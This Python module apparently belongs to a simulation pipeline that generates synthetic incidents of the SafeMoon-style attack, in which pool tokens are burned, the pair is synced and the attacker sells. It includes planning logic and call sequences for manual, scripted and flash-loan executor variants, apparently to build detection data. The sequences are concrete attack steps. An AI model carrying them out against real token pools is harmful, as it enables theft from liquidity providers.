"""Burn a pool's tokens: the reserves follow, what is left is dear, the attacker sells (SafeMoon 2023)."""

from __future__ import annotations

from dataclasses import dataclass

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.engine import Account
from pipelines.simulation.world import (
    DEADLINE,
    ETH,
    FOREVER,
    Part,
    Place,
    Session,
    Token,
    World,
    amount_out,
    step,
)

_LEAST = ETH // 2


@dataclass(frozen=True)
class Raid:
    """Amounts of one attack, in base units."""

    place: Place
    pair: bytes
    spent: int
    bought: int
    loops: int
    """How often the tokens go into the pool and out again; 0: burn directly."""
    burned: int

    @property
    def token(self) -> Token:
        """The token whose pool is robbed."""
        return self.place.tokens[0]


def plan(world: World, most: int, *, direct: bool) -> Raid | None:
    """Return one of the raids that pay, spending at most `most` wei."""
    options = []
    for place in world.places.get("meme_token", []):
        token = place.tokens[0]
        weth, pooled = world.reserves(world.weth, token)
        pending = world.view("meme_token", token.address, "pending")
        rate = world.view("meme_token", token.address, "rate")
        pair = world.pair(world.weth, token) or b""
        for scale in (0.03, 0.1, 0.3, 0.8, 2.0, 4.0):
            spent = int(weth * scale)
            bought = amount_out(spent, weth, pooled)
            left = pooled - bought
            for loops in (0,) if direct else (1, 2):
                share = 0.5 + 0.49 * world.rng.random()
                burned = min(pending + loops * (bought * rate // 100), left * 99 // 100)
                burned = int(left * share) if direct else burned
                out = amount_out(bought, left - burned, weth + spent)
                if weth > 3 * ETH and spent <= most and out - spent - spent // 1000 > _LEAST:
                    options.append(Raid(place, pair, spent, bought, loops, burned))
    return options[int(world.rng.integers(len(options)))] if options else None


def pair_burn_sync(world: World, incident: Incident) -> Session:
    """Buy, burn what the pool holds, let the pool notice, sell."""
    own_money, direct = world.chance(0.65), world.chance(0.65)
    most = (300 if own_money else 3000) * ETH
    found = plan(world, most, direct=direct)
    if found is None:
        return
    who = yield from attacker(world, incident, found.spent / ETH * 1.05 + 0.5 if own_money else 1.0)
    incident.variant.append("own-money" if own_money else "flash-loan")
    incident.variant.append("burn" if direct else "skim")
    limit = found.spent if own_money else most
    draw = world.rng.random()
    if own_money and direct and draw < 0.8:
        yield from _by_hand(world, incident, who, limit)
    elif draw < 0.4:
        yield from _by_script(world, incident, who, limit, direct=direct, own_money=own_money)
    else:
        yield from _by_executor(world, incident, who, limit, direct=direct, own_money=own_money)
    if incident.exploits:
        incident.finish()
        _forget(world)
        yield from leave(world, incident, who)


def _forget(world: World) -> None:
    """Strike the tokens whose pools are as good as empty off the lists."""
    for place in list(world.places["meme_token"]):
        if world.reserves(world.weth, place.tokens[0])[0] < 3 * ETH and len(world.places["meme_token"]) > 1:
            world.places["meme_token"].remove(place)
            world.tokens.remove(place.tokens[0])


def _steps(world: World, raid: Raid, me: bytes) -> list[Step]:
    """Return all of it as steps of a contract `me` that holds the WETH."""
    router, weth, token = world.the("router").address, world.weth.address, raid.token.address
    buy = ("swapExactTokensForTokens", raid.spent, 1, [weth, token], me, DEADLINE)
    sale = ("swapExactTokensForTokens", raid.bought, 1, [token, weth], me, DEADLINE)
    steps = [step("token", weth, "approve", router, FOREVER), step("router", router, *buy)]
    if raid.loops:
        for _ in range(raid.loops):
            steps.append(step("token", token, "transfer", raid.pair, raid.bought))
            steps.append(step("pair", raid.pair, "skim", me))
        steps.append(step("meme_token", token, "deflate"))
    else:
        steps.append(step("meme_token", token, "burn", raid.pair, raid.burned))
        steps.append(step("pair", raid.pair, "sync"))
    return [*steps, step("token", token, "approve", router, FOREVER), step("router", router, *sale)]


def _by_executor(
    world: World, incident: Incident, who: Account, most: int, *, direct: bool, own_money: bool
) -> Part:
    """All of it in one transaction of an executor."""
    tool = yield from runner(world, incident, who)
    raid = plan(world, most, direct=direct)
    if raid is None:
        return
    steps = _steps(world, raid, tool.address)
    if own_money:
        steps.insert(0, step("weth", world.weth.address, "deposit", value=raid.spent))
        yield from run_steps(world, incident, who, tool, steps)
    else:
        yield from run_flash(world, incident, who, tool, steps, raid.spent)
    yield from home(world, incident, who, tool)


def _by_script(
    world: World, incident: Incident, who: Account, most: int, *, direct: bool, own_money: bool
) -> Part:
    """A contract written for this one pool; a stale one is made anew."""
    incident.variant.append("script")
    lender, weth = world.pick(world.places["flash_lender"]).address, world.weth.address
    for _ in range(6):
        raid = plan(world, most, direct=direct)
        if raid is None:
            return
        steps = _steps(world, raid, SELF)
        profit = step("token", weth, "transfer", who.address, _LEAST // 2 + (raid.spent if own_money else 0))
        if own_money:
            outer = [step("weth", weth, "deposit", value=raid.spent), *steps, profit]
            done = yield from run_script(world, incident, who, outer, value=raid.spent)
        else:
            inner = [*steps, step("token", weth, "approve", lender, raid.spent * 2)]
            outer = [step("flash_lender", lender, "flashLoan", SELF, weth, raid.spent, b""), profit]
            done = yield from run_script(world, incident, who, outer, inner=inner)
        if done:
            return


def _by_hand(world: World, incident: Incident, who: Account, most: int) -> Part:
    """Buy like anybody; later burn, sync and sell in three transactions of a few calls each."""
    incident.variant.append("by-hand")
    for _ in range(5):
        raid = plan(world, most, direct=True)
        if raid is None:
            return
        yield from _burn_and_sell(world, incident, who, raid)
        if incident.gain > 0:
            return


def _burn_and_sell(world: World, incident: Incident, who: Account, raid: Raid) -> Part:
    """One round; somebody who sells in between can spoil one, hardly the next."""
    router, token = world.the("router").address, raid.token
    path = [world.weth.address, token.address]
    before = world.held(token, who.address)
    buy = ("swapExactETHForTokens", 1, path, who.address, DEADLINE)
    yield incident.call("prep", who, "router", router, *buy, value=raid.spent)
    yield incident.call("prep", who, "token", token.address, "approve", router, FOREVER)
    for _ in range(int(world.rng.integers(8))):
        yield None
    left = world.held(token, raid.pair)
    burned = min(raid.burned, left * 99 // 100)
    yield incident.call("exploit", who, "meme_token", token.address, "burn", raid.pair, burned)
    yield incident.call("exploit", who, "pair", raid.pair, "sync")
    rest = world.held(token, who.address) - before
    sale = ("swapExactTokensForETH", rest, 1, path[::-1], who.address, DEADLINE)
    yield incident.call("exploit", who, "router", router, *sale)


FAMILIES = (
    Family(
        name="pair_burn_sync",
        tier="structural",
        split="dev",
        modelled_on="SafeMoon (2023) and AES (2022)",
        about="Burn a pool's tokens through the token's own functions, let the pool notice, sell into it.",
        run=pair_burn_sync,
    ),
)
